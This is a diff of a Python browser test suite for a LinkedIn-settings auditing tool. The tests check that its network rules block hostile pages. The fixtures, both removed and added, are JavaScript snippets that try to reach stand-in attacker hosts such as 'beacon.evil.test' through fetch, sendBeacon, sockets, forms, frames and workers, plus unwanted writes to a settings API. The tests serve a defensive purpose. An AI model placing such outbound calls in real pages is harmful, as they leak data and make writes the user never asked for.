@@ -1,187 +1,88 @@
-"""The network rules in a real browser, against pages that try every way out."""
+"""The network rule in a real browser: what never arrives at the server."""
 
 from __future__ import annotations
 
-import pytest
-from hostile import API, SETTING, audited, blob, framed, page, reports, tries
-from traces import own_folder, program_in
+from page_parts import PATH, page, row
+from saving import SETTING
 
-from auditor.demo.imitation import Answer, Scene
+from auditor.demo.imitation import Answer
+from auditor.demo.scenes import Scene
+from auditor.linkedin.network import NetworkRules
 
-NESTED = f"new Worker({blob(tries('nested'))});"
-# Ways that run a script of their own, by the tag that it sends.
-RUN = {
-    "page": tries("page"),
-    "late": f"setTimeout(() => {{ {tries('late')} }}, 900);",
-}
-# Workers, of which none runs.
-WORKERS = {
-    "worker": f"new Worker({blob(tries('worker'))});",
-    "module": f"new Worker({blob(tries('module'))}, {{type: 'module'}});",
-    "nested": f"new Worker({blob(NESTED)});",
-    "fromfile": "new Worker('/worker.js');",
-}
-FRAMES = {
-    "srcdoc": f'<iframe srcdoc="{framed(tries("srcdoc"))}"></iframe>',
-    "sandboxed": f'<iframe sandbox="allow-scripts" srcdoc="{framed(tries("sandboxed"))}"></iframe>',
-    "data": f'<iframe src="data:text/html,{framed(tries("data"))}"></iframe>',
-    "same": '<iframe src="/frame"></iframe>',
-}
-# Ways that only ask.
-ASK = f"""
-new EventSource('https://stream.evil.test/');
-new WebSocket('wss://socket.evil.test/');
-new Image().src = 'https://image.evil.test/';
-navigator.sendBeacon('https://beacon.evil.test/', 'x');
-navigator.sendBeacon('{API}', 'beacon');
-fetch('/leads-away', {{mode: 'no-cors'}}).catch(() => 0);
-fetch('/leads-away-307', {{method: 'POST', body: 'x', mode: 'no-cors'}}).catch(() => 0);
-fetch('/leads-to-a-write', {{method: 'POST', body: 'x'}}).catch(() => 0);
-new Image().src = '/leads-away';
-for (const at of ['https://window.evil.test/', '/leads-away', '/opened']) window.open(at);
-for (const at of ['https://form.evil.test/', '{API}']) {{
-  const form = Object.assign(document.createElement('form'), {{method: 'post', action: at}});
-  document.body.append(Object.assign(form, {{target: '_blank'}}));
-  form.submit();
-}}
-const link = Object.assign(document.createElement('a'), {{href: 'https://link.evil.test/'}});
-document.body.append(Object.assign(link, {{target: '_blank', rel: 'noopener'}}));
-link.click();
+API = f"/mysettings-api/settingsApiSettings/{SETTING.key}"
+WRITES = f"""
+fetch("{API}", {{method: "PUT", body: '{{"value":false}}'}}).catch(() => 0);
+fetch("{API}", {{method: "POST", keepalive: true, body: "x"}}).catch(() => 0);
+navigator.sendBeacon("/psettings/policy/research-invitations", "x");
 """
-STYLED = (
-    "<iframe src='https://frame.evil.test/'></iframe><iframe src='/leads-away'></iframe>"
-    "<link rel=stylesheet href='https://style.evil.test/'>"
-    "<link rel=prefetch href='https://prefetch.evil.test/'>"
-    "<object data='https://object.evil.test/'></object><script src='//script.evil.test/'></script>"
-)
-SHARED = f"""
-fetch('/ran?' + typeof SharedWorker + typeof RTCPeerConnection + typeof WebTransport);
-try {{ new SharedWorker({blob(tries("shared"))}); }} catch {{ }}
-navigator.serviceWorker?.register('/worker.js').catch(() => 0);
+OTHERS = """
+fetch("https://elsewhere.test/", {mode: "no-cors"}).catch(() => 0);
+new Image().src = "https://pixel.test/";
+new WebSocket("wss://socket.test/");
+window.open("https://window.test/");
+window.open("/opened");
+new Worker(URL.createObjectURL(new Blob(["fetch('https://worker.test/').catch(() => 0)"])));
 """
+FRAMES = "<iframe src='https://frame.test/'></iframe><script src='//script.test/'></script>"
 
 
-def elsewhere(asked):
-    """What the hostile page finds at LinkedIn."""
-    if asked.path in ("/leads-away", "/leads-away-307"):
-        status = 307 if asked.path.endswith("307") else 302
-        return Answer(status=status, location=f"https://redirect{status}.evil.test/")
-    found = {
-        "/leads-to-a-write": Answer(status=307, location=API),
-        "/frame": Answer(f"<script>{tries('same')}</script>"),
-        "/worker.js": Answer(tries("fromfile"), content_type="text/javascript"),
-        "/opened": Answer(f"<script>{tries('opened')}</script>"),
-        "/data?late": Answer("{}", delay=2),
-        "/download": Answer("x", headers=(("content-disposition", "attachment"),)),
-    }
-    return found.get(asked.path) or (Answer("") if asked.path.startswith("/ran?") else None)
-
-
-def test_no_way_out_of_the_settings_page(serve):
-    """From frames, windows, sockets, redirects no other host is asked, nothing written."""
-    scripts = "".join([*RUN.values(), *WORKERS.values(), ASK])
-    html = page(scripts, "".join(FRAMES.values()) + STYLED)
-    server, done, left = audited(serve, html, elsewhere)
-    assert {*RUN, *FRAMES} == reports(server)
-    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
-    assert {"GET"} == {asked.method for asked in server.seen if "leads" not in asked.path}
-    assert {SETTING.key: True} == {SETTING.key: server.imitation.values[SETTING.key]}
-    assert done.report["activity"]["requests_refused"] >= 2 * len(reports(server))
-    assert [] == left
-
-
-def test_a_sandboxed_frame_is_ruled_from_its_first_moment(serve):
-    """On a busy machine too: what a sandboxed frame asks for at once is judged like the rest."""
-    frames = f'<iframe sandbox="allow-scripts" srcdoc="{framed(tries("sandboxed"))}"></iframe>' * 8
-    server, done, _ = audited(serve, page(more=frames), elsewhere)
-    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
+def test_a_page_cannot_write_while_it_is_audited(here):
+    """Writes that a page sends by itself during an audit never arrive, and are counted."""
+    server = here.serve(page(row()("on"), after=f"<script>{WRITES}</script>"))
+    report = here.run("audit")
     assert {"GET"} == {asked.method for asked in server.seen}
-    assert done.report["activity"]["requests_refused"] >= 2 * 8
+    assert ("on", True) == (report.results[0].state, report.activity.requests_refused >= 3)
 
 
-def test_what_no_rule_sees_is_taken_away(serve):
-    """A settings page has no shared worker, no service worker, no calls past the network rules."""
-    server, _, _ = audited(serve, page(SHARED), elsewhere)
-    assert {"undefinedundefinedundefined"} == reports(server)
-    assert {"www.linkedin.com"} == {asked.host for asked in server.seen} == server.greeted
-    assert not [asked for asked in server.seen if asked.path == "/worker.js"]
-
-
-PERMISSIONS = """
-for (const name of ["geolocation", "notifications", "camera", "microphone", "clipboard-read"]) {
-  navigator.permissions.query({name}).then((one) => fetch(`/ran?${name} ${one.state}`));
-}
-navigator.geolocation.getCurrentPosition(() => fetch("/ran?found"), () => fetch("/ran?not-found"));
-"""
-
-
-def test_permissions_are_refused(serve):
-    """What a page asks leave for is denied, and nobody is asked."""
-    server, _, _ = audited(serve, page(PERMISSIONS), elsewhere)
-    assert reports(server) >= {"not-found"}
-    assert {"denied"} == {one.split("%20")[1] for one in reports(server) if "%20" in one}
-
-
-BOXES = """
-const says = [alert("a"), confirm("b"), prompt("c"), print()];
-fetch("/ran?" + says.slice(1, 3).join());
-onbeforeunload = () => "stay";
-"""
-WINDOWS = """
-const opened = [window.open("/opened"), window.open("about:blank")];
-location.hash = "x";
-"""
-DOWNLOAD = """
-const link = Object.assign(document.createElement("a"), {href: "/download", download: "planted"});
-document.body.append(link);
-link.click();
-"""
-
-
-@pytest.mark.parametrize("script", [BOXES, WINDOWS, DOWNLOAD], ids=["boxes", "windows", "download"])
-def test_what_a_page_opens_is_refused(serve, script):
-    """Boxes, windows and downloads do not hold up the reading, and leave nothing behind."""
-    server, done, left = audited(serve, page(script), elsewhere)
-    assert ("on", 1, []) == (done.result["state"], done.code, left)
-    assert set() == reports(server) - {"false,", "false,null"}
+def test_only_linkedin_is_asked_once_signed_in(here):
+    """Frames, scripts, pictures, sockets, workers and windows reach no other host, nor open."""
+    html = page(row()("on"), after=f"{FRAMES}<script>{OTHERS}</script>")
+    server = here.serve(html)
+    report = here.run("audit")
     assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
+    assert ("on", True) == (report.results[0].state, report.activity.requests_refused >= 6)
+    assert 1 == len(here.page.context.pages)
 
 
-def test_the_pages_of_signing_in_may_ask_other_hosts(serve):
+def test_the_pages_of_signing_in_may_ask_other_hosts(here):
     """Until the person is signed in other hosts are asked, and no write to the settings is sent."""
     helped = (
         "<script src='https://captcha.example/x.js'></script>"
         f"<script>fetch('{API}', {{method: 'PUT', body: 'x'}}).catch(() => 0);"
-        "const go = () => { location.href = '/checkpoint/lg/login-submit' };"
-        "fetch('https://accounts.example/', {mode: 'no-cors'}).finally(() => setTimeout(go, 300))"
-        "</script>"
+        "setTimeout(() => { location.href = '/in' }, 1500)</script>"
     )
+    session = "li_at=x; Path=/; Secure"
 
-    def override(asked):
-        if asked.path.startswith("/uas/login"):
-            return Answer(f"<!doctype html><html lang=en><main>Sign in</main>{helped}")
-        return None if asked.host == "www.linkedin.com" else Answer("", content_type="text/css")
+    def answers(server, asked):
+        if asked.path == "/in":
+            return Answer(status=303, location=PATH, cookie=session)
+        if asked.path == PATH and "li_at" not in asked.cookie:
+            return Answer(status=303, location="/uas/login")
+        if asked.path == PATH:
+            return Answer(page(row()("off")))
+        return Answer(f"<main>Sign in</main>{helped}") if asked.path == "/uas/login" else None
 
-    server = serve(Scene("x", value="off"), override)
-    with own_folder() as folder:
-        done = program_in(folder, "audit", "--headless", "--browser", server.browser, "--json", "-")
-    hosts = {"www.linkedin.com", "captcha.example", "accounts.example"}
-    assert ("off", hosts, []) == (
-        done.result["state"],
-        {asked.host for asked in server.seen},
-        server.writes,
-    )
-
-
-FLOOD = f"""setInterval(() => {{
-  for (let i = 0; i < 300; i += 1) fetch("{API}", {{ method: "PUT" }}).catch(() => 0);
-}}, 20);"""
+    server = here.serve(answers, Scene("x"))
+    report = here.run("audit", login_timeout=30.0)
+    assert ("off", []) == (report.results[0].state, server.writes)
+    assert {"www.linkedin.com", "captcha.example"} == {asked.host for asked in server.seen}
 
 
-def test_a_page_that_never_tires_is_shut(serve):
-    """A page that asks for refused addresses without end does not hold up the run."""
-    server, done, left = audited(serve, page(FLOOD), elsewhere)
-    assert (4, "network", []) == (done.code, done.report["error"]["code"], left)
-    assert "without end" in done.report["error"]["message"]
-    assert done.report["duration_seconds"] < 60
-    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
+def test_a_window_left_open_by_signing_in_asks_nobody_any_more(here):
+    """What a sign-in page opened reaches no other host once the setting's page has come."""
+    asks = "<script>setInterval(() => fetch('https://popup.test/').catch(() => 0), 100)</script>"
+    server = here.serve(lambda _, asked: Answer(asks) if asked.path == "/popup" else None)
+    rules = NetworkRules()
+    rules.attach(here.page.context)
+    rules.follow(here.page, alone=True)
+    rules.setting_path = PATH
+    popup = here.page.context.new_page()
+    popup.goto("https://www.linkedin.com/popup")
+    here.page.wait_for_timeout(500)
+    assert "popup.test" in {asked.host for asked in server.seen}, "it may, before"
+    here.setting_page().read()
+    here.page.wait_for_timeout(300)  # what was under way may still arrive
+    before = len([asked for asked in server.seen if asked.host == "popup.test"])
+    here.page.wait_for_timeout(500)
+    assert before == len([asked for asked in server.seen if asked.host == "popup.test"])
+    assert 0 < rules.refused
